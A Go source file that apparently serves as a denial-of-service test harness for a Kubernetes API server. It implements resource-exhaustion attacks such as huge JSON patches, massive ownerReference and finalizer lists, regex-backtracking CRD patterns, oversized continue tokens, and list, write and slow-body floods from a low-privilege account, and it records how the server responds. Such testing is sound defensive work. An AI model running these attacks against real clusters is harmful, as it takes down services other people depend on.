package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"maps"
	"net/http"
	"slices"
	"strings"
	"sync"
	"time"
)

// configMaps is where mallory may write.
const configMaps = "/api/v1/namespaces/default/configmaps"

// attacks are all of them, in the order of the table.
var attacks = []attack{
	{name: "copies", title: "JSON patch of 12 copies of 100 KB into themselves (630 bytes)", prepare: func(ctx context.Context, s *server) error { return s.fill(ctx, 1, 100<<10) }, run: copies, limit: time.Minute},
	{name: "bodies", title: "4 connections of 1,000 streams, each announcing 3 MB and sending 1 byte, from an account without a role", run: bodies, limit: 10 * time.Second},
	{name: "drips", title: "100 bodies over HTTP/2 and 100 over HTTP/1.1, a byte a second", run: drips, limit: 75 * time.Second},
	{name: "lists", title: "2,000 lists of 20 MB at once, by one account", prepare: func(ctx context.Context, s *server) error { return s.fill(ctx, 2000, 10<<10) }, run: lists, limit: 20 * time.Second},
	{name: "unread-lists", title: "2,000 unread lists of 20 MB", prepare: func(ctx context.Context, s *server) error { return s.fill(ctx, 2000, 10<<10) }, run: unreadLists, limit: 10 * time.Second},
	{name: "writers", title: "256 writers of one account", run: writers, limit: 10 * time.Second},
	{name: "tenant", title: "2,000 lists of 500 KB at once, 5,000 writes/s and 20,000 watches, by one account", prepare: func(ctx context.Context, s *server) error { return s.fill(ctx, 500, 1<<10) }, run: tenant, limit: 2 * time.Minute},
	{name: "owners", title: "a create with 30,000 ownerReferences", run: owners, limit: 90 * time.Second},
	{name: "finalizers", title: "a create with 80,000 finalizers", run: finalizers, limit: 90 * time.Second},
	{name: "digits", title: "a ResourceQuota with a quantity of 1,000,000 digits", run: digits, limit: 90 * time.Second},
	{name: "patterns", title: "a definition with 4,000 patterns of nested repetition, and its first object", run: patterns, limit: 60 * time.Second},
	{name: "tokens", title: "200 continue tokens of 700 KB", run: tokens, limit: 20 * time.Second},
	{name: "deep", title: "documents of a million levels", run: send(false, deep()...), limit: 30 * time.Second},
	{name: "laughs", title: "YAML whose aliases stand for 2^40 words", run: send(false, laughs()...), limit: 30 * time.Second},
	{name: "odd", title: "documents that parsers stumble over", prepare: func(ctx context.Context, s *server) error { return s.fill(ctx, 1, 10) }, run: send(false, odd()...), limit: 60 * time.Second},
	{name: "selectors", title: "lists with selectors of many terms", run: send(false, selectors()...), limit: 30 * time.Second},
	{name: "schemas", title: "definitions that are costly, from an administrator", run: send(true, schemas()...), limit: 60 * time.Second},
	{name: "cubic", title: "a policy with the cube of an object's keys, and one with 3,000 keys", run: cubic, limit: 60 * time.Second},
	{name: "smuggling", title: "12 ambiguous requests of HTTP/1.1", run: smuggle, limit: 60 * time.Second},
	{name: "slow-headers", title: "500 connections with half a header", run: held(slowHeaders), limit: 45 * time.Second},
	{name: "stalled-tls", title: "500 connections with half a handshake", run: held(stalledTLS), limit: 45 * time.Second},
	{name: "rapid-reset", title: "rapid reset, 4 connections", run: frames(rapidReset), limit: 6 * time.Second},
	{name: "made-you-reset", title: "MadeYouReset, 4 connections", run: frames(madeYouReset), limit: 6 * time.Second},
	{name: "continuation", title: "CONTINUATION without end, 4 connections", run: frames(continuation), limit: 6 * time.Second},
	{name: "hpack", title: "HPACK bomb, 4 connections", run: frames(hpackBomb), limit: 6 * time.Second},
	{name: "pings", title: "PING flood, answers unread, 4 connections", run: frames(pings), limit: 6 * time.Second},
	{name: "settings", title: "SETTINGS flood, answers unread, 4 connections", run: frames(settings), limit: 6 * time.Second},
	{name: "empty-data", title: "empty DATA frames, 4 connections", run: frames(emptyData), limit: 6 * time.Second},
	{name: "idle", title: "2,000 idle TLS connections", run: idle, limit: 10 * time.Second},
	{name: "watches", title: "500 watches with a window of 0, and 2,000 writes of 5 KB", run: unreadWatches, limit: 40 * time.Second},
}

// outcomes counts responses.
type outcomes struct {
	mu sync.Mutex
	of map[string]int
}

func (o *outcomes) add(what string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	if o.of == nil {
		o.of = map[string]int{}
	}
	o.of[what]++
}

func (o *outcomes) String() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	var parts []string
	for _, k := range slices.Sorted(maps.Keys(o.of)) {
		parts = append(parts, fmt.Sprintf("%d x %s", o.of[k], k))
	}
	if len(parts) == 0 {
		return "nothing"
	}
	return strings.Join(parts, ", ")
}

// ask makes one request and words its outcome.
func (s *server) ask(ctx context.Context, token, method, path, kind string, body []byte) string {
	began := time.Now()
	code, _, err := s.call(ctx, newClient(nil), token, method, path, kind, body)
	took := time.Since(began).Seconds()
	switch {
	case ctx.Err() != nil:
		return fmt.Sprintf("nothing in %.0f s", took)
	case err != nil:
		return fmt.Sprintf("cut off after %.1f s", took)
	}
	return fmt.Sprintf("%d after %.1f s", code, took)
}

func copies(ctx context.Context, s *server) string {
	var list []string
	for i := range 12 {
		list = append(list, fmt.Sprintf(`{"op":"copy","from":"/data","path":"/data/c%d"}`, i))
	}
	return s.ask(ctx, s.mallory, "PATCH", configMaps+"/fill-0", "application/json-patch+json", []byte("["+strings.Join(list, ",")+"]"))
}

func owners(ctx context.Context, s *server) string {
	var list []string
	for i := range 30000 {
		list = append(list, fmt.Sprintf(`{"apiVersion":"v1","kind":"Pod","name":"p%d","uid":"%d"}`, i, i))
	}
	return s.ask(ctx, s.mallory, "POST", configMaps+"?dryRun=All", "application/json", []byte(`{"metadata":{"name":"o","ownerReferences":[`+strings.Join(list, ",")+`]}}`))
}

func finalizers(ctx context.Context, s *server) string {
	var list []string
	for i := range 80000 {
		list = append(list, fmt.Sprintf(`"a.io/%d"`, i))
	}
	return s.ask(ctx, s.mallory, "POST", configMaps+"?dryRun=All", "application/json", []byte(`{"metadata":{"name":"f","finalizers":[`+strings.Join(list, ",")+`]}}`))
}

func digits(ctx context.Context, s *server) string {
	body := `{"metadata":{"name":"q"},"spec":{"hard":{"configmaps":"` + strings.Repeat("9", 1_000_000) + `"}}}`
	began := time.Now()
	code, _, err := s.call(ctx, s.admin, s.token, "POST", "/api/v1/namespaces/default/resourcequotas", "application/json", []byte(body))
	if err != nil {
		return fmt.Sprintf("nothing in %.0f s", time.Since(began).Seconds())
	}
	said := fmt.Sprintf("%d after %.1f s", code, time.Since(began).Seconds())
	if code/100 == 2 {
		said += "; a create in the namespace: " + s.ask(ctx, s.mallory, "POST", configMaps+"?dryRun=All", "application/json", []byte(`{"metadata":{"name":"a"}}`))
	}
	return said
}

func patterns(ctx context.Context, s *server) string {
	var list []string
	for i := range 4000 {
		list = append(list, fmt.Sprintf(`"f%d":{"type":"string","pattern":"^((x%d{0,30}){0,30})$"}`, i, i))
	}
	body := `{"metadata":{"name":"things.example.com"},"spec":{"group":"example.com","scope":"Namespaced","names":{"plural":"things","singular":"thing","kind":"Thing","listKind":"ThingList"},
		"versions":[{"name":"v1","served":true,"storage":true,"schema":{"openAPIV3Schema":{"type":"object","properties":{"spec":{"type":"object","properties":{` + strings.Join(list, ",") + `}}}}}}]}}`
	code, _, err := s.call(ctx, s.admin, s.token, "POST", "/apis/apiextensions.k8s.io/v1/customresourcedefinitions", "application/json", []byte(body))
	if err != nil || code/100 != 2 {
		return fmt.Sprintf("the definition: %d %v", code, err)
	}
	for ctx.Err() == nil {
		code, _, err = s.call(ctx, s.admin, s.token, "POST", "/apis/example.com/v1/namespaces/default/things", "application/json", []byte(`{"apiVersion":"example.com/v1","kind":"Thing","metadata":{"name":"a"},"spec":{"f0":"x0"}}`))
		if err == nil && code != http.StatusNotFound {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	return fmt.Sprintf("the object: %d", code)
}

func tokens(ctx context.Context, s *server) string {
	// {"v":"meta.k8s.io/v1","rv":-5,"start":"xxx..."} in base64; three bytes are four.
	head := "eyJ2IjoibWV0YS5rOHMuaW8vdjEiLCJydiI6LTUsInN0YXJ0IjoieHh4"
	token := head + strings.Repeat("eHh4", 700<<10/4) + "eHh4In0"
	var o outcomes
	var wg sync.WaitGroup
	for range 20 {
		wg.Go(func() {
			c := newClient(nil)
			for range 10 {
				code, _, err := s.call(ctx, c, s.mallory, "GET", configMaps+"?limit=1&continue="+token, "application/json", nil)
				if err != nil {
					o.add("cut off")
					continue
				}
				o.add(fmt.Sprint(code))
			}
		})
	}
	wg.Wait()
	return o.String()
}

func lists(ctx context.Context, s *server) string {
	var o outcomes
	var wg sync.WaitGroup
	for range 20 {
		c := newClient(nil)
		for range 100 {
			wg.Go(func() {
				for ctx.Err() == nil {
					req, _ := http.NewRequestWithContext(ctx, "GET", s.url+configMaps, nil)
					req.Header.Set("Authorization", "Bearer "+s.mallory)
					resp, err := c.Do(req)
					if err != nil {
						if ctx.Err() == nil {
							o.add("cut off")
						}
						continue
					}
					_, err = io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
					if ctx.Err() != nil {
						return
					}
					what := fmt.Sprint(resp.StatusCode)
					if err != nil {
						what += " cut off"
					}
					o.add(what)
					if resp.StatusCode == http.StatusTooManyRequests {
						time.Sleep(time.Second) // the time of Retry-After
					}
				}
			})
		}
	}
	wg.Wait()
	return o.String()
}

func writers(ctx context.Context, s *server) string {
	var o outcomes
	var wg sync.WaitGroup
	for i := range 256 {
		wg.Go(func() {
			c := newClient(nil)
			for n := 0; ctx.Err() == nil; n++ {
				code, _, err := s.call(ctx, c, s.mallory, "POST", configMaps, "application/json", fmt.Appendf(nil, `{"metadata":{"name":"w%d-%d"}}`, i, n))
				if err == nil {
					o.add(fmt.Sprint(code))
				}
				if code == http.StatusTooManyRequests {
					time.Sleep(time.Second)
				}
			}
		})
	}
	wg.Wait()
	return o.String()
}

// drips sends bodies that never end, and counts those that the server ends.
func drips(ctx context.Context, s *server) string {
	var o outcomes
	var wg sync.WaitGroup
	one := http.Transport{TLSClientConfig: newClient(nil).Transport.(*http.Transport).TLSClientConfig.Clone()}
	one.TLSClientConfig.NextProtos = []string{"http/1.1"}
	for name, c := range map[string]*http.Client{"HTTP/2": newClient(nil), "HTTP/1.1": {Transport: &one}} {
		for range 100 {
			wg.Go(func() {
				in, out := io.Pipe()
				go func() {
					for ctx.Err() == nil {
						if _, err := out.Write([]byte("{")); err != nil {
							return
						}
						time.Sleep(time.Second)
					}
					out.CloseWithError(ctx.Err())
				}()
				req, _ := http.NewRequestWithContext(ctx, "POST", s.url+configMaps, in)
				req.ContentLength = 1 << 20
				req.Header.Set("Authorization", "Bearer "+s.mallory)
				req.Header.Set("Content-Type", "application/json")
				resp, err := c.Do(req)
				switch {
				case ctx.Err() != nil:
					o.add(name + " held to the end")
				case err != nil:
					o.add(name + " cut off")
				default:
					io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
					o.add(fmt.Sprintf("%s %d", name, resp.StatusCode))
				}
				in.Close()
			})
		}
	}
	wg.Wait()
	return o.String()
}

// big is a body of a ConfigMap of so many bytes.
func big(name string, n int) []byte {
	return fmt.Appendf(nil, `{"metadata":{"name":%q},"data":{"a":"%s"}}`, name, bytes.Repeat([]byte("x"), n))
}
